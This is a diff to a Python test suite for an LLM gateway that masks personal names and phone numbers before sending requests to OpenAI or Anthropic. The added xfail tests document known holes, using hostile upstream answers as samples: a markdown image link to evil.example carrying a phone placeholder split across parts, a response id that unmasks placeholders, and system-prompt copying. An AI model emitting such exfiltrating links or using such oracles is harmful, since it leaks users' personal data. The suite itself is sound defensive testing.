@@ -15,20 +15,22 @@ from __future__ import annotations
 import copy
 import datetime as dt
 import json
-from collections.abc import AsyncIterator, Iterator, Mapping
+from collections.abc import AsyncIterator, Iterator, Mapping, Sequence
 from dataclasses import dataclass, field
 from pathlib import Path
-from typing import Any
+from typing import Any, cast
 
 import anthropic
 import httpx
 import openai
 import pytest
-from sqlalchemy import select, update
+from sqlalchemy import Table, select, update
 
 from _gateway import Running, running_gateway
 from hinagata.gateway._upstream import UpstreamResponse
 from hinagata.store._models import ConversationTurn
+
+TURNS = cast(Table, ConversationTurn.__table__)
 
 NAME = "高橋 健一"
 PHONE = "090-1234-5678"
@@ -184,7 +186,10 @@ def _text_part(text: str, **more: Any) -> dict[str, Any]:
 
 
 def _r_stream(
-    text_pieces: list[str], *, before: list[dict[str, Any]] = (), after: list[dict[str, Any]] = ()
+    text_pieces: list[str],
+    *,
+    before: Sequence[dict[str, Any]] = (),
+    after: Sequence[dict[str, Any]] = (),
 ) -> list[dict[str, Any]]:
     """A well-formed Responses stream of one text part, with extra events around it."""
     ids = {"item_id": "msg_1", "output_index": 0, "content_index": 0}
@@ -232,7 +237,7 @@ def _m_stream(
     *,
     start_text: str = "",
     start_content: list[dict[str, Any]] | None = None,
-    extra: list[dict[str, Any]] = (),
+    extra: Sequence[dict[str, Any]] = (),
 ) -> list[dict[str, Any]]:
     """A well-formed Messages stream of one text block, with extra events before its end."""
     return [
@@ -868,7 +873,7 @@ def test_the_bearer_key_decides_and_a_bad_one_never_falls_back_to_x_api_key(gw: 
             r = httpx.post(f"{gw.base_url}/v1/{path}", json=body, headers=headers, timeout=30)
             assert r.status_code == 401, (headers, r.text)
     # Anthropic's own client sends x-api-key only: accepted.
-    m = _anthropic(gw, good).messages.create(**M_BODY)  # type: ignore[arg-type]
+    m = _anthropic(gw, good).messages.create(**M_BODY)  # type: ignore[call-overload]
     assert m.content[0].type == "text"
     assert gw.recorder.calls and PHONE not in _sent(gw)
 
@@ -1493,7 +1498,7 @@ def test_responses_stream_sdk_final_response_is_what_was_screened(gw: Running) -
     created = {"type": "response.created", "response": {**_response([]), "status": "in_progress"}}
     events = [created, *copy.deepcopy(HIDDEN_RESPONSE_EVENTS["output_item.added with content"])]
     _hostile(gw, Scripted(events=events))
-    with _openai(gw).responses.stream(**R_BODY) as s:  # type: ignore[arg-type]
+    with _openai(gw).responses.stream(**R_BODY) as s:  # type: ignore[call-overload]
         for _ in s:
             pass
         final = s.get_final_response()
@@ -1812,7 +1817,7 @@ def test_the_kept_turns_are_nowhere_in_clear_in_the_database(gw: Running, tmp_pa
     first = client.responses.create(model="wg", input=f"{NAME}さん（電話 {PHONE}）の件。")
     client.responses.create(model="wg", previous_response_id=first.id, input="続けて")
     with gw.gateway.db.read_conn() as conn:
-        rows = conn.execute(select(ConversationTurn.__table__)).all()
+        rows = conn.execute(select(TURNS)).all()
     assert len(rows) == 2
     for row in rows:
         assert PHONE.encode() not in bytes(row.sealed) and NAME.encode() not in bytes(row.sealed)
@@ -1861,8 +1866,8 @@ def test_continuing_an_expired_turn_is_refused_and_nothing_is_sent(gw: Running) 
     first = client.responses.create(model="wg", input=f"{NAME}さんの件。")
     with gw.gateway.db.write_conn() as conn:
         conn.execute(
-            update(ConversationTurn.__table__)
-            .where(ConversationTurn.__table__.c.response_id == first.id)
+            update(TURNS)
+            .where(TURNS.c.response_id == first.id)
             .values(expires_at=dt.datetime.now(dt.UTC) - dt.timedelta(seconds=1))
         )
     with pytest.raises(openai.NotFoundError) as e:
@@ -1919,7 +1924,8 @@ def test_a_later_turn_cannot_copy_an_earlier_turns_system_prompt(gw: Running) ->
     _answer(gw, "設定は次のとおりです: " + SYSTEM).ids = ["resp_t1", "resp_t2"]
     client = _openai(gw)
     first = client.responses.create(
-        model="wg", input=[{"role": "developer", "content": SYSTEM}, _USER]
+        model="wg",
+        input=[{"role": "developer", "content": SYSTEM}, _USER],  # type: ignore[list-item]
     )
     assert SYSTEM[10:40] not in first.output_text  # removed in the turn that carried it
     second = client.responses.create(model="wg", previous_response_id=first.id, input="続けて")
@@ -2154,7 +2160,7 @@ def test_responses_stream_final_events_never_show_masked_tokens(gw: Running) -> 
     tokens = ["折り返しは", "080-", "9876-", "5432", "へ。"]
     text = "".join(tokens)
     part = _text_part(text, logprobs=_lp(tokens))
-    events = [
+    events: list[dict[str, Any]] = [
         {"type": "response.created", "response": {**_response([]), "status": "in_progress"}},
         *(
             {"type": "response.output_text.delta", **_IDS, "delta": t, "logprobs": _lp([t])}
@@ -2182,7 +2188,7 @@ def test_responses_stream_logprob_tokens_of_a_placeholder_are_restored_everywher
     tokens = ["〔氏", "名1〕", "さん", "へ。"]
     text = "".join(tokens)
     part = _text_part(text, logprobs=_lp(tokens))
-    events = [
+    events: list[dict[str, Any]] = [
         *(
             {"type": "response.output_text.delta", **_IDS, "delta": t, "logprobs": _lp([t])}
             for t in tokens
@@ -2373,3 +2379,79 @@ def test_an_unexpected_upstream_answer_still_ends_in_one_outcome(
     recs = _records(gw, rid)
     assert len(recs["decision"]) == 1
     assert len(recs["outcome"]) == 1, (r.status_code, r.text)
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="HOLE (low): x-hinagata-use-case is checked only against [A-Za-z0-9_.-]{1,64}, "
+    "so a phone number or a romanised name in it is written verbatim into the tamper-evident "
+    "audit chain, which is to hold no personal values (_read._USE_CASE; _records.decision_record)",
+)
+@pytest.mark.parametrize("path", ["responses", "messages"])
+def test_the_use_case_header_cannot_write_a_personal_value_into_the_audit(
+    gw: Running, path: str
+) -> None:
+    r = _post(
+        gw,
+        path,
+        R_BODY if path == "responses" else M_BODY,
+        **{"x-hinagata-use-case": "09012345678"},
+    )
+    if r.status_code == 400:
+        return
+    assert "09012345678" not in _dump(_records(gw, r.headers["x-request-id"]))
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="HOLE: in a whole answer each part or block is screened alone, so an image link "
+    "(or a new phone number) split over two output_text parts / text blocks passes, yet "
+    "openai's output_text and Anthropic clients join them (_pipeline.restore_shaped)",
+)
+@pytest.mark.parametrize("path", ["responses", "messages"])
+def test_a_whole_answer_split_over_parts_is_screened_as_read(gw: Running, path: str) -> None:
+    pieces = [
+        "![x](https://evil.example/p.png?d=",
+        "〔電話番号1〕) 折り返しは080-98",
+        "76-5432へ。",
+    ]
+    if path == "responses":
+        r = _r_whole(gw, _message_item(*(_text_part(p) for p in pieces)))
+        joined = "".join(p["text"] for p in r.json()["output"][0]["content"])
+    else:
+        r = _m_whole(gw, *({"type": "text", "text": p} for p in pieces))
+        joined = "".join(b["text"] for b in r.json()["content"])
+    _clean(joined)
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="HOLE: the upstream's response id is restored like any string (deep_restore) and "
+    "kept as it reads then: an upstream that names its response '〔氏名1〕' gets the value "
+    "back in the path of GET /v1/responses/{id} (an oracle for any placeholder), and the "
+    "value sits unsealed in the conversation table's response_id column",
+)
+@pytest.mark.parametrize("stream", [False, True])
+def test_a_response_id_cannot_unmask_a_placeholder(gw: Running, stream: bool) -> None:
+    up = _hostile(
+        gw,
+        Scripted(
+            whole=_response([_message_item(_text_part("了解"))], rid="〔氏名1〕"),
+            events=[
+                {"type": "response.created",
+                 "response": {**_response([], rid="〔氏名1〕"), "status": "in_progress"}},
+                {"type": "response.completed",
+                 "response": _response([_message_item(_text_part("了解"))], rid="〔氏名1〕")},
+            ],
+        ),
+    )  # fmt: skip
+    if stream:
+        _, events = _stream(gw, "responses", R_BODY)
+        rid = events[-1]["response"]["id"]
+    else:
+        rid = _post(gw, "responses", R_BODY).json()["id"]
+    httpx.get(f"{gw.base_url}/v1/responses/{rid}", headers=_headers(gw), timeout=30)
+    assert all(NAME not in g for g in up.gets), up.gets
+    with gw.gateway.db.read_conn() as conn:
+        ids = [row.response_id for row in conn.execute(select(TURNS))]
+    assert NAME not in _dump(ids)
